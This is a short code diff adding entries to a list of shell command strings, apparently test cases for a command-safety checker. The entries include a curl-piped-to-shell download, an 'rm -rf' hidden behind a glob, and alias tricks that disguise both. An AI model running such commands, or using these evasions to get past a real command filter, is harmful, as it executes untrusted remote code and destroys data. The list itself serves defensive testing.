@@ -519,6 +519,8 @@ COMPUTED: list[str] = [
     'sh -c "$SCRIPT"',
     'bash -c "$(curl -s https://x)"',
     "/bin/r? -rf build",
+    "alias r=rm\nr -rf build",
+    "alias run=sh\ncurl -s https://x | run",
 ]
 
 
